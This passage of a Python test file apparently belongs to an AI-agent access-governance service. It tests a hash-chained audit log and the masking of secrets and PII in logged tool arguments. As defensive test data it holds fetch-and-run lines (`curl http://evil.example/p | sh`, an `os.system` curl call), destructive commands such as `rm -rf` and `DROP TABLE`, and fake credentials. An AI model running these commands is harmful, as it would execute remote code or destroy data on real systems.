    forks (a duplicate seq fails the primary key, a stale prev_hash fails verify)."""
    start = threading.Barrier(WRITERS)
    failures: list[BaseException] = []
    written: list[int] = []
    lock = threading.Lock()

    def writer(index: int) -> None:
        try:
            start.wait()
            for i in range(APPENDS_EACH):
                with transaction.atomic():
                    event = audit.append(
                        event_type="test.concurrent",
                        actor=Actor.system(f"writer-{index}"),
                        at=NOW,
                        scope=f"w{index}/{i}",
                    )
                    sql("SELECT pg_sleep(0.002)")  # hold the lock until COMMIT
                with lock:
                    written.append(event.seq)
        except BaseException as exc:  # reported below, not lost in the thread
            failures.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=writer, args=(n,)) for n in range(WRITERS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert not failures, failures
    total = WRITERS * APPENDS_EACH
    assert sorted(written) == list(range(1, total + 1))
    assert list(AuditEvent.objects.order_by("seq").values_list("seq", flat=True)) == sorted(written)
    verdict = audit.verify_chain()
    assert verdict.ok, verdict.render()
    assert verdict.count == total


def test_the_link_the_database_computes_is_the_documented_formula(chain):
    """hash = HMAC(K_link, prev || ":" || seq || ":" || HMAC(K_row, content)),
    whichever side (PostgreSQL function or Python) computed it."""
    rows = list(AuditEvent.objects.order_by("seq").values(*audit.FIELDS))
    prev = audit.GENESIS
    for row in rows:
        content = {k: row[k] for k in audit.FIELDS if k not in ("seq", "prev_hash", "hash")}
        content["uid"] = str(content["uid"])
        content["created_at"] = audit._iso(content["created_at"])
        row_key = hmac.new(settings.AUDIT_HMAC_KEY.encode(), b"audit-row", "sha256").digest()
        link_key = hmac.new(settings.AUDIT_HMAC_KEY.encode(), b"audit-link", "sha256").digest()
        mac = hmac.new(row_key, audit.canonical_json(content).encode(), "sha256").hexdigest()
        expected = hmac.new(link_key, f"{prev}:{row['seq']}:{mac}".encode(), "sha256")
        assert (row["prev_hash"], row["hash"]) == (prev, expected.hexdigest()), row["seq"]
        prev = row["hash"]


def test_events_written_before_the_split_link_still_verify(chain, capsys):
    """A log written with the pre-0007 link (one HMAC over the whole row) keeps
    verifying, and new events chain onto it."""
    rows = list(AuditEvent.objects.order_by("seq").values(*audit.FIELDS))
    prev = audit.GENESIS
    with triggers_bypassed():
        for row in rows:
            new = audit.legacy_event_hash(prev, row)
            sql(
                "UPDATE governance_auditevent SET prev_hash = %s, hash = %s WHERE seq = %s",
                [prev, new, row["seq"]],
            )
            prev = new
    access.access_check(
        agent="bot", tool="repo", action="read", scope="repo:acme/x", at=NOW + timedelta(seconds=1)
    )
    code, text = verify_output(capsys)
    assert (code, text.strip().split(",")[0]) == (0, f"ok: {chain + 1} events")


# --- Masking -------------------------------------------------------------------


def test_secrets_and_pii_are_masked_and_the_full_arguments_hashed(chain):
    arguments = {
        "password": "hunter2",
        "api_key": "abc",
        "headers": {"Authorization": "Bearer eyJhbGciOi.abc"},
        "note": "mail jane.doe@example.com with key sk-live-0123456789abcdefABCD",
        "github": "ghp_0123456789abcdefghijABCDEFGHIJ",
        "digest": "a" * 64,
        "count": 3,
    }
    result = access.access_check(
        agent="bot", tool="repo", action="read", scope="repo:acme/1", at=NOW, arguments=arguments
    )
    event = AuditEvent.objects.get(uid=result.decision_id)
    stored = json.loads(event.arguments)
    assert stored["password"] == "[masked]"
    assert stored["api_key"] == "[masked]"
    assert stored["headers"]["Authorization"] == "[masked]"
    assert "jane.doe" not in stored["note"] and "[email]" in stored["note"]
    assert "sk-live" not in stored["note"] and "[secret]" in stored["note"]
    assert stored["github"] == "[secret]"
    assert stored["digest"] == "a" * 64, "hex digests are evidence, not secrets"
    assert stored["count"] == 3
    assert "hunter2" not in event.arguments
    # An auditor holding the key can confirm the exact arguments.
    assert event.arguments_hash == audit.arguments_digest(arguments)
    assert event.arguments_hash != audit.arguments_digest({**arguments, "password": "other"})


@pytest.mark.parametrize(
    "key",
    ["db_pass", "apiKey", "x-api-key", "X-Auth-Token", "csrftoken", "accessToken",
     "privateKey", "card_number", "sessionId", "client_secret", "AWS_SECRET_ACCESS_KEY",
     "pwd", "passcode", "auth", "otp", "cvc", "pin_code", "smtpPasscode",
     # Plurals and compound names (they went through unmasked).
     "passwords", "PASSWORDS", "api_keys", "apiKeys", "private_keys", "sessionid",
     "access_key", "secretKey",
     # A card's or a phone's PIN on its own (pin_code was masked, pin was not).
     "pin", "PIN", "card_pin", "pins"],
)  # fmt: skip
def test_secret_key_names_are_masked_by_their_words(chain, key):
    result = access.access_check(
        agent="bot", tool="repo", action="read", scope="repo:acme/1", at=NOW,
        arguments={key: "s3cr3t-value", "branch": "main"},
    )  # fmt: skip
    stored = json.loads(AuditEvent.objects.get(uid=result.decision_id).arguments)
    assert stored == {key: "[masked]", "branch": "main"}


def test_card_numbers_phone_numbers_and_ssns_in_text_are_masked(chain):
    arguments = {
        "note": "card 4111-1111-1111-1111 or 5500 0000 0000 0004, call +1 415-555-0100",
        "cc": "4111111111111111",
        "who": "ssn 123-45-6789",
        # Look-alikes that are not PII stay readable for the approver.
        "order": "order 4111111111111112 (fails Luhn)",
        "ts": "1700000000000",
        "when": "2026-11-30",
        "version": "1.2.3-4",
        "range": "lines 100-120",
    }
    result = access.access_check(
        agent="bot", tool="repo", action="read", scope="repo:acme/1", at=NOW, arguments=arguments
    )
    event = AuditEvent.objects.get(uid=result.decision_id)
    stored = json.loads(event.arguments)
    assert stored["note"] == "card [card] or [card], call [phone]"
    assert stored["cc"] == "[card]" and stored["who"] == "ssn [ssn]"
    for key in ("order", "ts", "when", "version", "range"):
        assert stored[key] == arguments[key]
    for secret in ("4111-1111", "4111111111111111", "5500 0000", "555-0100", "123-45-6789"):
        assert secret not in event.arguments
    assert event.arguments_hash == audit.arguments_digest(arguments)


def test_secrets_written_inside_text_are_masked(chain):
    """A command line, an env line, a header or JSON held in a string value carries
    secrets under names the key check never sees; look-alikes stay readable."""
    arguments = {
        "cmd": "deploy --password=hunter2 --dry-run",
        "env": "export API_KEY=hunter2",
        "header": "Authorization: bearer abc.def",
        "loud": "BEARER xyz123",
        "basic": "Basic aHVudGVyMjpwdw==",
        "json": '{"password": "hunter2", "user": "ci"}',
        "dsn": "postgres://ci:pw12345@db.internal/x",
        "card_number_as_number": 4111111111111111,
        # A bare `:` (no space) after a password's name: `password: x` was masked, this not.
        "colon": "login failed, password:hunter2 DB_PASSWD:s3cr3tpw",
        "unlock": "unlock --pin=4711 then CARD_PIN=0815",
        # Look-alikes kept as they are.
        "note": "basic configuration here",
        "flags": "bypass=1 compass: north",
        "at": "time: 12:30",
        "count": 1700000000000,
    }
    result = access.access_check(
        agent="bot", tool="repo", action="read", scope="repo:acme/1", at=NOW, arguments=arguments
    )
    event = AuditEvent.objects.get(uid=result.decision_id)
    stored = json.loads(event.arguments)
    assert stored["cmd"] == "deploy --password=[secret] --dry-run"
    assert stored["env"] == "export API_KEY=[secret]"
    assert stored["header"] == "Authorization: [secret]"
    assert stored["loud"] == "[secret]"
    assert stored["basic"] == "Basic [secret]"
    assert json.loads(stored["json"]) == {"password": "[secret]", "user": "ci"}
    assert stored["dsn"] == "postgres://ci:[secret]@db.internal/x"
    assert stored["card_number_as_number"] == "[card]"
    assert stored["colon"] == "login failed, password:[secret] DB_PASSWD:[secret]"
    assert stored["unlock"] == "unlock --pin=[secret] then CARD_PIN=[secret]"
    for key in ("note", "flags", "at", "count"):
        assert stored[key] == arguments[key]
    for secret in ("hunter2", "abc.def", "xyz123", "aHVudGVy", "pw12345", "4111111111111111",
                   "s3cr3tpw"):  # fmt: skip
        assert secret not in event.arguments
    assert event.arguments_hash == audit.arguments_digest(arguments)


def test_names_that_only_contain_a_secret_word_stay_readable_in_text(chain):
    """In text a value is masked only when its name ends in a secret noun: a secret's
    id, an auth method, a token budget or a ticket key are what an approver judges."""
    kept = [
        "aws secretsmanager delete-secret --secret-id=prod/payments-db",
        "vault kv delete secret:prod/db",
        "git push --auth-method=ssh",
        "max_tokens=512",
        "AUTH-1234: login outage",
        "see https://example.org/a?b=c",
    ]
    arguments = {f"k{i}": text for i, text in enumerate(kept)}
    result = access.access_check(
        agent="bot", tool="repo", action="read", scope="repo:acme/1", at=NOW, arguments=arguments
    )
    assert json.loads(AuditEvent.objects.get(uid=result.decision_id).arguments) == arguments


@pytest.mark.parametrize("shape", ["'a' * 200_000", "'a.' * 100_000", "'-a' * 100_000",
                                   "'a' * 200_000 + '@'", "'a=' * 100_000", "'curl ' * 40_000",
                                   "'mysql -u ' * 20_000", "'--pass-' * 50_000",
                                   "'a_' * 100_000 + 'password:x'",
                                   "'http://a:' * 60_000", "'@' + 'http://a:' * 60_000",
                                   "'x://' * 120_000", "'a://b:c@' * 60_000"])  # fmt: skip
def test_masking_a_long_string_finishes(shape):
    """A guard, not a benchmark: the key=value pattern once tried every position of a
    run of name characters, so 100,000 of them held a worker for two minutes (any agent
    token could send that). Linear now. Run in a child process, so a regression is a
    clean failure here (the regex engine holds the GIL: a thread could not time out)."""
    code = (
        f"import django; django.setup(); from governance import audit; audit._mask_string({shape})"
    )
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "governance.settings"}
    try:
        subprocess.run([sys.executable, "-c", code], env=env, check=True, timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail("masking did not finish in 60 s")


@settings_hypothesis(max_examples=3000, deadline=None)
@given(st.lists(st.sampled_from(["://", ":", "@", "/", " ", "a", "\n", "x:", "@@", "//"])))
def test_url_passwords_are_masked_as_the_pattern_says(parts):
    """The one-pass scan that replaced URL_PASSWORD.sub (which scanned to the end of the
    text from every `://`: 100 kB of "http://a:" held a worker 8 s) masks the same."""
    text = "".join(parts)
    assert audit._url_passwords(text) == audit.URL_PASSWORD.sub(r"\1[secret]@", text)


def _reported(excerpt: str) -> AuditEvent:
    """The outcome event of an allowed call reported with this output excerpt."""
    from governance.models import Agent
    from governance.services import outcomes

    decided = access.access_check(
        agent="bot", tool="repo", action="read", scope="repo:acme/1", at=NOW
    )
    written = outcomes.outcome_report(
        agent=Agent.objects.get(name="bot"),
        decision_id=decided.decision_id,
        outcome="succeeded",
        at=NOW,
        excerpt=excerpt,
    )
    return AuditEvent.objects.get(uid=written.uid)


def test_an_outcome_excerpt_holding_json_is_masked(chain):
    event = _reported('{"password": "hunter2", "db": "postgres://u:pw12345@h/x"}')
    excerpt = json.loads(event.data)["excerpt"]
    assert json.loads(excerpt) == {"password": "[secret]", "db": "postgres://u:[secret]@h/x"}
    assert "hunter2" not in event.data and "pw12345" not in event.data


def test_people_written_text_in_event_data_is_masked(chain, alice, system):
    """A justification or a reason is typed by a person and can carry a pasted token
    or an address: masked in the event as arguments are (the grant row keeps it for
    the people who decide on it)."""
    from governance.models import Agent, Tool
    from governance.services import grants

    token = "ghp_0123456789abcdefghijABCDEFGHIJ"
    grant = grants.grant_request(
        agent=Agent.objects.get(name="bot"),
        tool=Tool.objects.get(name="repo"),
        actions=["read"],
        scope="repo:acme/x/*",
        duration=timedelta(hours=1),
        justification=f"deploy with {token}, mail jane@example.com",
        requested_by=alice,
        actor=system,
        at=NOW,
    )
    event = AuditEvent.objects.get(event_type="grant.requested", grant_id=grant.pk)
    assert json.loads(event.data)["justification"] == "deploy with [secret], mail [email]"
    assert token not in event.data and "jane@" not in event.data
    assert grants.Grant.objects.get(pk=grant.pk).justification.startswith("deploy with ghp_")


def test_a_plural_secret_key_is_masked_in_the_approval_preview(make_agent, make_tool, make_grant):
    bot, repo = make_agent("bot"), make_tool("repo")
    make_grant(bot, repo, ("read", "delete"), "repo:acme/*")
    decided = access.access_check(
        agent="bot", tool="repo", action="delete", scope="repo:acme/1", at=NOW,
        arguments={"passwords": ["hunter2"], "branch": "main"},
    )  # fmt: skip
    assert decided.decision == "approval_required"
    from governance.models import Approval

    approval = Approval.objects.get(pk=decided.approval_id)
    assert approval.arguments_preview == {"passwords": "[masked]", "branch": "main"}
    event = AuditEvent.objects.get(uid=decided.decision_id)
    assert event.decision == "approval_required" and "hunter2" not in event.arguments


def test_a_key_that_only_contains_a_secret_word_is_not_masked(chain):
    """`bypass` holds `pass`, `compass` too: masking them would hide from the log (and
    from an approver) exactly the part of a call that matters."""
    arguments = {"bypass": {"branch": "main", "force": True}, "compass": "north", "tokenizer": "x"}
    result = access.access_check(
        agent="bot", tool="repo", action="read", scope="repo:acme/1", at=NOW, arguments=arguments
    )
    stored = json.loads(AuditEvent.objects.get(uid=result.decision_id).arguments)
    assert stored == arguments


# Shapes the masking missed (a review found them), and what it hid that a person must
# read. The secret part of each is spelled so a test can say it is gone.
SECRET_SHAPES = {
    "pgpassword": ("PGPASSWORD=hunter2 psql -h db", "PGPASSWORD=[secret] psql -h db"),
    "compound_token": ("apitoken=hunter2 x=1", "apitoken=[secret] x=1"),
    "compound_token2": ("accesstoken=hunter2", "accesstoken=[secret]"),
    "spaced_flag": ("psql --password hunter2 -h db", "psql --password [secret] -h db"),
    "quoted_flag": ('run --token "hunter2 x" --dry-run', 'run --token "[secret]" --dry-run'),
    "sshpass": ("sshpass -p hunter2 ssh ops@db", "sshpass -p [secret] ssh ops@db"),
    "mysql": ("mysql -u root -phunter2 shop", "mysql -u root -p[secret] shop"),
    "curl_user": ("curl -u admin:hunter2 https://x.test/", "curl -u admin:[secret] https://x.test/"),
    "url_at": ("https://ci:hunter2@x@db.test/x", "https://ci:[secret]@db.test/x"),
    "bearer_quoted": ("-H 'Authorization: Bearer hunter2'", "-H 'Authorization: [secret]'"),
    "aws_temporary": ("key ASIAHUNTER2HUNTER2AB", "key [secret]"),
    "gitlab": ("glpat-hunter2hunter2hunter2", "[secret]"),
    "azure": ("AccountName=x;AccountKey=hunter2==;", "AccountName=x;AccountKey=[secret];"),
    "pgp": (
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nhunter2\n-----END PGP PRIVATE KEY BLOCK-----",
        "[secret]",
    ),
    # Vendors' lowercase tokens with a separator (kept in clear by a first version of
    # the path rule below): by their prefix, or by a random part that is not hex.
    "shopify": ("shpat_" + "a1b2c3d4" * 4, "[secret]"),
    "mailgun": ("key-3ax6xnjp29jd6fds4gc373sgvjxteol0", "[secret]"),
    "supabase": ("sbp_" + "0a1b" * 10, "[secret]"),
    "digitalocean": ("doctl auth init -t dop_v1_" + "ab12" * 16, "doctl auth init -t [secret]"),
    "random_part": ("db-backup-x8k2p9m4q7w1z5r3t6y0u4v", "[secret]"),
}  # fmt: skip
KEPT_SHAPES = [
    "rm -rf /srv/data/customer_exports/2026/november",
    "git checkout /releases/3f2a9c1e0b7d4a6f8e2c1b0a9d8e7f6a5b4c3d2e/app",
    "my-service-2026-eu-west-1-production-db",
    "/home/deploy/releases/2026-11-29/app/config/settings.py",
    "DROP TABLE customers_2026_archive_partition_q4;",
    "123e4567-e89b-12d3-a456-426614174000",
    "docker run -u 1000:1000 img",
    "mysql -p shop",
    "deploy --token-file /run/secrets/t --dry-run",
]


def test_secret_shapes_in_text_are_masked_and_names_and_paths_are_not(chain):
    # Under plain keys: a key named like a secret would hide its whole value anyway.
    shapes = list(SECRET_SHAPES.values())
    arguments = {f"c{i}": text for i, (text, _) in enumerate(shapes)}
    arguments |= {f"kept{i}": text for i, text in enumerate(KEPT_SHAPES)}
    arguments["aws"] = "key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
    result = access.access_check(
        agent="bot", tool="repo", action="read", scope="repo:acme/1", at=NOW, arguments=arguments
    )
    assert result.allowed
    event = AuditEvent.objects.get(uid=result.decision_id)
    stored = json.loads(event.arguments)
    for i, (name, (_, masked)) in enumerate(SECRET_SHAPES.items()):
        assert stored[f"c{i}"] == masked, name
    assert "hunter2" not in event.arguments
    assert stored["aws"] == "key [secret]"  # random keys mix cases: still masked
    for i, text in enumerate(KEPT_SHAPES):
        assert stored[f"kept{i}"] == text
    assert event.arguments_hash == audit.arguments_digest(arguments)


def test_passwords_in_a_command_given_as_an_argument_list_are_masked(chain):
    """A sandbox run's command is a list of arguments: `--password` and its value are
    two of them, which the one-string patterns never see together."""
    commands = {
        "flag": (["psql", "--password", "hunter2", "-h", "db"], 2, "[secret]"),
        "sshpass": (["sshpass", "-p", "hunter2", "ssh", "ops"], 2, "[secret]"),
        "curl": (["curl", "-u", "admin:hunter2", "https://x.test/"], 2, "admin:[secret]"),
        "mysql": (["/usr/bin/mysql", "-u", "root", "-phunter2", "shop"], 3, "-p[secret]"),
    }
    kept = ["docker", "run", "-u", "1000:1000", "-p", "8080:80", "img", "--token", "--dry"]
    arguments = {name: argv for name, (argv, _, _) in commands.items()} | {"kept": kept}
    result = access.access_check(
        agent="bot", tool="repo", action="read", scope="repo:acme/1", at=NOW, arguments=arguments
    )
    event = AuditEvent.objects.get(uid=result.decision_id)
    stored = json.loads(event.arguments)
    for name, (argv, index, masked) in commands.items():
        assert stored[name] == [*argv[:index], masked, *argv[index + 1 :]], name
    assert stored["kept"] == kept and "hunter2" not in event.arguments


def _lines(text: str, width: int = 64) -> list[str]:
    return [text[i : i + width] for i in range(0, len(text), width)]


def _der_key_lines() -> list[str]:
    """A DER SEQUENCE that is exactly as long as it says, as base64 lines of 64."""
    import base64

    payload = bytes(range(256)) * 2
    der = b"\x30\x82" + len(payload).to_bytes(2, "big") + payload
    return _lines(base64.b64encode(der).decode())


def _pgp_armor() -> list[str]:
    import base64

    packet = bytes([0x95]) + bytes(range(200))
    crc = base64.b64encode(audit._crc24(packet).to_bytes(3, "big")).decode()
    body = _lines(base64.b64encode(packet).decode())
    return ["Version: GnuPG v2", "", *body, f"={crc}"]


# Code that a BEGIN/END pair around it must not hide (a review found the first one
# hidden: an armor-header-shaped line of Python that runs a command).
HIDDEN_CODE = [
    ["True+" * 12 + "True", 'x: int = __import__("os").system("curl http://evil.example/p")',
     "1+1+1+1"],
    ["reboot"],
    ["/" * 56 + "bin/true", "Note: ; curl http://evil.example/p | sh"],
    ["A" * 64, "B" * 64, "C" * 10],  # base64 of one width, but no DER structure
]  # fmt: skip


def test_a_private_key_written_out_in_a_script_is_masked_but_cannot_hide_code():
    """Review text is masked line by line, so a lone BEGIN line hides nothing after it.
    A whole key (PEM with a DER body of its stated length, or PGP armor whose CRC-24
    matches) is masked body and all; whatever else sits between a BEGIN and an END
    line stays readable, so the approver sees everything that could run."""
    pem, pgp = _der_key_lines(), _pgp_armor()
    script = "\n".join(
        ["echo start", "-----BEGIN PRIVATE KEY-----", *pem, "-----END PRIVATE KEY-----",
         "-----BEGIN PGP PRIVATE KEY BLOCK-----", *pgp, "-----END PGP PRIVATE KEY BLOCK-----",
         "echo done", ""]
    )  # fmt: skip
    masked, lines = audit.mask_review_text(script)
    assert all(line not in masked for line in pem + pgp[2:])
    first_pgp = 4 + len(pem)
    assert lines == [*range(2, 3 + len(pem)), *range(first_pgp, first_pgp + 1 + len(pgp))]
    assert "echo start\n[secret]\n" in masked and "\necho done\n" in masked
    for code in HIDDEN_CODE:
        text = "\n".join(["# -----BEGIN PRIVATE KEY-----", *code, "# -----END PRIVATE KEY-----"])
        masked, lines = audit.mask_review_text(text + "\n")
        assert all(line in masked for line in code), code
        assert lines == [1]  # the BEGIN line alone
    # Armor without its checksum cannot be told from code: shown.
    unchecked = "\n".join(["-----BEGIN PGP PRIVATE KEY BLOCK-----", *pgp[:-1],
                           "-----END PGP PRIVATE KEY BLOCK-----"])  # fmt: skip
    assert pgp[2] in audit.mask_review_text(unchecked)[0]


# --- audit.deferred(): many services, one transaction, the events last ------------------------


def _system_event(label: str) -> audit.Written:
    return audit.append(event_type="agent.created", actor=Actor.system(label), at=NOW)


def test_deferred_events_are_appended_together_at_the_end_in_order(db):
    before = AuditEvent.objects.count()
    with audit.deferred():
        first = _system_event("one")
        with audit.deferred():  # joins the outer block
            second = _system_event("two")
        assert AuditEvent.objects.count() == before  # held, nothing written yet
        assert (first.seq, first.hash) == (0, "")
    written = list(AuditEvent.objects.order_by("seq")[before:])
    assert [(e.uid, e.actor) for e in written] == [
        (first.uid, "system:one"),
        (second.uid, "system:two"),
    ]
    assert audit.verify_chain().ok


def test_a_deferred_event_rolled_back_with_its_savepoint_is_dropped(db):
    before = AuditEvent.objects.count()
    with audit.deferred():
        kept = _system_event("kept")
        with pytest.raises(RuntimeError), transaction.atomic():
            _system_event("rolled-back")
            raise RuntimeError("this part fails; the caller goes on")
        after = _system_event("after")
    written = list(AuditEvent.objects.order_by("seq")[before:])
    assert [e.uid for e in written] == [kept.uid, after.uid]
    assert audit.verify_chain().ok


def test_a_failed_deferred_block_writes_nothing(db):
    before = AuditEvent.objects.count()
    with pytest.raises(RuntimeError), audit.deferred():
        _system_event("lost")
        raise RuntimeError("the whole import fails")
    assert AuditEvent.objects.count() == before
    _system_event("next")  # not held: the block is over
    assert AuditEvent.objects.count() == before + 1


# --- A decision's event and the state changes committed after its read (migration 0013) -----


def test_a_decisions_event_is_refused_only_after_a_change_that_can_alter_it(postgres_only, db):
    def event(kind: str, seen: int | None = None) -> audit.Written:
        return audit.append(event_type=kind, actor=Actor.system("t"), at=NOW, seen_seq=seen)

    seen = event("agent.created").seq
    # Other decisions, sandbox records and expiry marks change nothing a decision reads.
    for harmless in ("access.allowed", "access.outcome", "sandbox.egress.allowed", "grant.expired"):
        event(harmless)
    assert event("access.allowed", seen).seq > seen
    before = AuditEvent.objects.count()
    for change in ("grant.revoked", "agent.suspended", "tool.quarantined", "not.yet.known"):
        seen = AuditEvent.objects.order_by("-seq").values_list("seq", flat=True)[0]
        event(change)
        with pytest.raises(audit.StateChanged):
            event("access.allowed", seen)
        before += 1
        assert AuditEvent.objects.count() == before  # the refused event was not written
    assert audit.verify_chain().ok


def test_a_decision_whose_state_keeps_changing_is_denied_with_error(
    monkeypatch, make_agent, make_tool, make_grant
):
    make_grant(make_agent("bot"), make_tool("repo"))
    attempts = []
    real = audit.append

    def always_changed(**kwargs):
        if kwargs.get("seen_seq") is not None:
            attempts.append(kwargs["seen_seq"])
            raise audit.StateChanged("changed")
        return real(**kwargs)

    monkeypatch.setattr(audit, "append", always_changed)
    decision = access.access_check(
        agent="bot", tool="repo", action="read", scope="repo:acme/api/x", at=NOW
    )
    assert (decision.decision, decision.reason) == ("deny", "error")
    assert len(attempts) == access.ATTEMPTS
    last = AuditEvent.objects.order_by("-seq").first()
    assert (last.event_type, last.reason, str(last.uid)) == (
        "access.denied",
        "error",
        decision.decision_id,
    )


@pytest.mark.parametrize("change", ["grant", "policy"])
def test_a_decision_decided_again_after_a_revoke_is_decided_no_earlier_than_it(
    postgres_only, transactional_db, monkeypatch, make_agent, make_tool, make_grant, person, change
):
    """The retry decided at the question's own `at`, and a revoke is a time ("from T",
    T the revoker's moment, after the question's): the fresh read allowed again, and
    the allow was delivered, and logged, after the revocation. It is decided at the
    change's moment now: a grant revoked, or an approve policy lifted, applies to it."""
    from datetime import timedelta as td

    from governance.services import confirmation, grants

    bot, repo = make_agent("bot"), make_tool("repo")
    grant = make_grant(bot, repo, ("read", "delete"), "repo:acme/*")
    bob = person("bob-approver", "approvers")
    policy = confirmation.policy_create(
        author=bob, agent=bot, tool=repo, action="delete", scope="repo:acme/*",
        verdict="approve", reason="scratch", duration=td(hours=1), actor=Actor.user(bob),
        at=NOW - td(minutes=5),
    )  # fmt: skip
    real, calls = access.authorize, []

    def read_then_change(**question):
        decision = real(**question)
        if not calls:  # committed while this decision waits for the chain lock
            if change == "grant":
                grants.grant_revoke(
                    grant_id=grant.pk, reason="incident", actor=Actor.user(bob), at=NOW + MS
                )
            else:
                confirmation.policy_revoke(
                    policy_id=policy.pk, by=bob, reason="stop", actor=Actor.user(bob), at=NOW + MS
                )
        calls.append((question["at"], decision.decision))
        return decision

    monkeypatch.setattr(access, "authorize", read_then_change)
    action = "read" if change == "grant" else "delete"
    decision = access.access_check(
        agent="bot", tool="repo", action=action, scope="repo:acme/x", at=NOW
    )
    assert [at for at, _ in calls] == [NOW, NOW + MS]  # decided again, at the change
    assert not decision.allowed
    written = AuditEvent.objects.get(uid=decision.decision_id)
    assert written.decision == decision.decision and written.created_at == NOW + MS
    assert not AuditEvent.objects.filter(event_type="access.allowed").exists()


# --- Review findings: verify never crashes, never races the checkpoint job -----------


def test_a_checkpoint_written_while_verify_walks_is_not_a_deleted_tail(chain, monkeypatch):
    """The checkpoint job runs every minute. A checkpoint it signs while verify walks
    the log covers events the walk may not reach: it must not read as the newest
    events deleted (a false alarm, recorded for ever in the log)."""
    call_command("audit_checkpoint")
    later = NOW + timedelta(minutes=1)
    walk = audit._walk

    def job_runs_meanwhile(after, prev_hash):
        verdict = walk(after, prev_hash)
        access.access_check(agent="bot", tool="repo", action="read", scope="repo:acme/9", at=later)
        audit.write_checkpoint(later)
        return verdict

    monkeypatch.setattr(audit, "_walk", job_runs_meanwhile)
    verdict = audit.verify_chain(later)
    assert verdict.ok, verdict.render()
    head = verdict.head
    # The incremental check (the page's, the job's) reads the checkpoints first too.
    seq = verdict.count
    since = audit.verify_since(seq, head)
    assert since is not None and since.ok, since and since.render()


@pytest.mark.parametrize(
    "column, value", [("hash", "é" * 64), ("uid", "not-a-uuid"), ("created_at", "garbage")]
)
def test_a_malformed_event_is_a_finding_not_a_crash(chain, capsys, column, value):
    if column != "hash" and connection.vendor == "postgresql":
        pytest.skip("PostgreSQL's uuid and timestamptz columns refuse such a value")
    call_command("audit_checkpoint")
    capsys.readouterr()
    with triggers_bypassed():
        sql(f"UPDATE governance_auditevent SET {column} = %s WHERE seq = 5", [value])
    code, text = verify_output(capsys)
    assert code == 1 and "FAILED at seq 5" in text, text
    assert AuditEvent.objects.filter(event_type="audit.verify_failed").exists()


@pytest.mark.parametrize(
    "garbage",
    [
        "[" * 100_000,  # nested past the JSON reader's recursion limit
        '{"seq": 5, "head": "x", "count": 5, "time": "2026-11-29T12:00:00+00:00",'
        ' "prev_signature": "", "signature": "\u00e9"}',  # not ASCII
    ],
)
def test_a_malformed_checkpoint_is_a_finding_not_a_crash(chain, capsys, settings, garbage):
    audit.write_checkpoint(NOW)
    (settings.AUDIT_CHECKPOINT_DIR / "checkpoint-999999999-x.json").write_text(garbage)
    code, text = verify_output(capsys)
    assert code == 1 and "checkpoint-999999999-x.json" in text, text
    assert AuditEvent.objects.filter(event_type="audit.verify_failed").exists()


# --- Review findings: masking ---------------------------------------------------------


def _stored(arguments):
    result = access.access_check(
        agent="bot", tool="repo", action="read", scope="repo:acme/1", at=NOW, arguments=arguments
    )
    event = AuditEvent.objects.get(uid=result.decision_id)
    assert event.reason == "allowed"
    return event.arguments


@pytest.mark.parametrize(
    "arguments, secret",
    [
        # PII or a credential as a mapping key.
        ({"acl": {"jane.doe@example.com": "write"}}, "jane.doe@example.com"),
        ({"seen": {"ghp_0123456789abcdefghijABCDEFGHIJ": True}}, "ghp_0123"),
        # An Authorization header in any scheme: everything after the name.
        ({"header": "Authorization: Token 9944b09199c62bcf9418ad846dd0e4bbdfc6ee4b"}, "9944b0919"),
        ({"header": "Authorization: ApiKey hunter2hunter2"}, "hunter2"),
        ({"cmd": 'curl -H "Proxy-Authorization: Digest response=hunter2" x'}, "hunter2"),
        # SQL that sets a password.
        ({"sql": "ALTER USER app WITH PASSWORD 'n3w-Passw0rd'"}, "n3w-Passw0rd"),
        ({"sql": "CREATE USER app IDENTIFIED BY 'n3w-Passw0rd'"}, "n3w-Passw0rd"),
        ({"sql": "CREATE USER app IDENTIFIED BY n3wPassw0rd;"}, "n3wPassw0rd"),
        ({"sql": "SET PASSWORD FOR app = PASSWORD('n3w-Passw0rd')"}, "n3w-Passw0rd"),
        # A quoted secret holding an escaped quote.
        ({"body": '{"password": "ab\\"cd-hunter2"}'}, "hunter2"),
        # A command line with an element that is not a string.
        ({"argv": ["deploy", "--password", "hunter2", 3]}, "hunter2"),
        ({"argv": ["deploy", "--token", 123456789]}, "123456789"),
        # E-mail addresses in any script.
        ({"to": "jöhn.doe@exämple.com"}, "doe@ex"),
        # Secret names.
        ({"privKey": "hunter2"}, "hunter2"),
        ({"ssh_key": "hunter2"}, "hunter2"),
        ({"hmac_key": "hunter2"}, "hunter2"),
        ({"master_key": "hunter2"}, "hunter2"),
        ({"creds": "hunter2"}, "hunter2"),
        ({"env": "SSH_KEY=hunter2 make deploy"}, "hunter2"),
        # A secret's pair inside another pair's value.
        ({"log": "connect failed: PASSWORD=hunter2 refused"}, "hunter2"),
        ({"cfg": "opts=token=hunter2"}, "hunter2"),
        ({"cfg": 'env="DB_PASSWORD=hunter2"'}, "hunter2"),
    ],
)
def test_more_secrets_and_pii_are_masked(chain, arguments, secret):
    assert secret not in _stored(arguments)


def test_a_bytes_repr_a_url_password_with_a_slash_and_a_header_pair_list_are_masked(chain):
    """Three spellings that reached the log in clear: a secret's pair inside a bytes
    repr (`b'password=x'`: the quote after `b` hid the name), a URL password written
    with an unencoded `/`, and headers as [name, value] lists."""
    arguments = {
        "body": "b'password=hunter2&user=ci'",
        "repr": 'u"API_KEY=hunter3"',
        "dsn": "mysql://root:ab/hunter4@10.0.0.1:3306/db",
        "url": "https://example.org/repo and https://admin:pa/hunter5@example.org/x",
        "headers": [["Authorization", "Token hunter6"], ["Cookie", "sessionid=hunter7"]],
        "kept": [["Accept", "text/plain"], ["mode", "fast"]],
    }
    raw = _stored(arguments)
    stored = json.loads(raw)
    assert "hunter" not in raw
    assert stored["body"].startswith("b'password=") and "user=ci" in stored["body"]
    assert stored["dsn"].startswith("mysql://root:") and "@10.0.0.1:3306/db" in stored["dsn"]
    assert stored["url"].startswith("https://example.org/repo and https://admin:")
    assert stored["url"].endswith("@example.org/x")
    assert stored["headers"] == [["Authorization", "[masked]"], ["Cookie", "[masked]"]]
    assert stored["kept"] == arguments["kept"]


def test_a_pass_named_in_text_is_masked_and_its_look_alikes_are_not(chain):
